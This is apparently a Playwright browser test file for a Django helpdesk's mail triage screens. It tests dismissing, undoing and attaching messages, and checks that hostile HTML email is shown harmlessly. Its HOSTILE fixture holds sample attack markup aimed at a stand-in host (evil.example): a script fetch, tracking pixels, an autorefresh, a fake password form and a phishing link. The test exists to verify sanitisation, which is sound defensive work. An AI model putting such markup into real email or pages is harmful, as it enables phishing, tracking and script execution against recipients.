"""Deciding about a message in Chromium: by mouse and by keyboard, undone and carried out, and hostile HTML (M5, M7)."""

from __future__ import annotations

from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest
from django.utils import timezone
from playwright.sync_api import Browser, Page, expect

from cases.enums import Door, ReceivedOutcome, TriageDecision
from cases.inbox.receive import receive
from cases.inbox.triage import carry_out
from cases.models import Interaction, ReceivedMail
from tests.support.browser import enter, picture
from tests.support.builders import Desk
from tests.support.mails import raw_mail

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


@pytest.fixture
def page(browser: Browser, live_server: Any, settings: Any, tmp_path: Path) -> Iterator[Page]:
    """A fresh window; an error of a script on any page fails the test."""
    settings.DESK_FILES_DIR = tmp_path / "files"
    page = browser.new_context(viewport={"width": 1440, "height": 1000}, base_url=live_server.url).new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    yield page
    assert errors == []


def test_a_message_is_decided_undone_and_attached(page: Page, desk: Desk, live_server: Any) -> None:  # M5
    now = timezone.now()
    case = desk.open_case(now, title="The blue printer")
    mail = receive(
        raw_mail(f"Ann <{desk.contact.email}>", subject=f"{case.number}: it jams", text="It jams again."),
        now,
        door=Door.COMMAND,
    ).mail
    enter(page, desk.technician, live_server.url)
    page.goto("/admin/")
    row = page.get_by_role("listitem").filter(has_text="Decide about a message")
    row.get_by_role("link", name="Look at it").click()
    page.get_by_role("link", name="it jams").click()
    page.get_by_role("button", name="Dismiss").click()
    said = page.locator("#mail-state")
    expect(said).to_contain_text("Dismisses it at")
    said.get_by_role("button", name="Undo").click()
    expect(page.get_by_text("The message waits in triage again; nothing else has happened.")).to_be_visible()
    picture(page, "triage")
    button = page.get_by_role("button", name=f"Attach to {case.number}").first
    button.focus()
    page.keyboard.press("Enter")
    expect(said).to_contain_text(f"Attaches it to {case.number} at")
    assert ReceivedMail.objects.get(pk=mail.pk).decision == TriageDecision.ATTACH
    ReceivedMail.objects.update(carry_out_at=timezone.now())
    assert carry_out(timezone.now()).done == 1
    page.reload()
    expect(said).to_contain_text(f"It is logged on {case.number}.")
    page.get_by_role("link", name=case.number).first.click()
    entry = page.locator(".desk-entry-contact", has_text="It jams again.")
    expect(entry.get_by_role("link", name="The mail as it came in")).to_be_visible()
    assert Interaction.objects.filter(case=case, body="It jams again.").count() == 1


def test_a_case_is_searched_by_keyboard_while_one_types(page: Page, desk: Desk, live_server: Any) -> None:  # M5
    now = timezone.now()
    case = desk.open_case(now, title="The blue printer")
    mail = receive(raw_mail("Bob <bob@elsewhere.example>"), now, door=Door.COMMAND).mail
    enter(page, desk.technician, live_server.url)
    page.goto(f"/admin/cases/receivedmail/{mail.pk}/change/")
    page.get_by_label("Another case: number or any word").focus()
    page.keyboard.type("blue")
    expect(page.locator("#cases-found")).to_contain_text("The blue printer")
    found = page.locator("#cases-found").get_by_role("button", name=f"Attach to {case.number}")
    for _ in range(6):
        page.keyboard.press("Tab")
        if found.evaluate("one => one === document.activeElement"):
            break
    page.keyboard.press("Enter")
    expect(page.locator("#mail-state")).to_contain_text(f"Attaches it to {case.number} at")
    page.locator("#desk-undo").focus()
    page.keyboard.press("Enter")
    expect(page.get_by_text("The message waits in triage again")).to_be_visible()
    assert ReceivedMail.objects.get(pk=mail.pk).outcome == ReceivedOutcome.TRIAGE
    assert ReceivedMail.objects.get(pk=mail.pk).decision == ""


HOSTILE = """<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/r"><base href="https://evil.example/">
<style>body{background:url(https://evil.example/css)}</style><link rel="stylesheet" href="https://evil.example/a.css"></head>
<body onload="top.hit=1"><script>top.hit=1;fetch('https://evil.example/js')</script>
<img src="https://evil.example/pixel.gif" onerror="top.hit=1"><p style="background:url(https://evil.example/s)">Harmless words</p>
<form action="https://evil.example/f"><input name=password autofocus><button>Sign in</button></form>
<iframe src="https://evil.example/i"></iframe><a href="javascript:top.hit=1">Click</a>
<a href="https://evil.example/phish">your bank</a><svg onload="top.hit=1"></svg></body></html>"""  # noqa: E501


def test_hostile_html_is_shown_harmlessly(page: Page, desk: Desk, live_server: Any) -> None:  # M7
    message = EmailMessage()
    message["From"], message["Subject"], message["Message-ID"] = "Eve <eve@evil.example>", "Hi", "<e@evil.example>"
    message.set_content("Harmless words")
    message.add_alternative(HOSTILE, subtype="html")
    mail = receive(bytes(message), timezone.now(), door=Door.COMMAND).mail
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    enter(page, desk.technician, live_server.url)
    page.goto(f"/admin/cases/receivedmail/{mail.pk}/change/")
    assert page.locator("iframe").count() == 0
    page.get_by_role("link", name="Show it as HTML").click()
    frame = page.frame_locator("iframe")
    expect(frame.get_by_text("Harmless words")).to_be_visible()
    expect(frame.get_by_text("[https://evil.example/phish]")).to_be_visible()
    assert frame.locator("script, form, input, img, iframe, a, svg, link, meta[http-equiv]").count() == 0
    assert page.evaluate("window.hit") is None
    assert [address for address in asked if "evil.example" in address] == []
    assert page.evaluate("document.querySelector('iframe').contentDocument") is None  # another origin
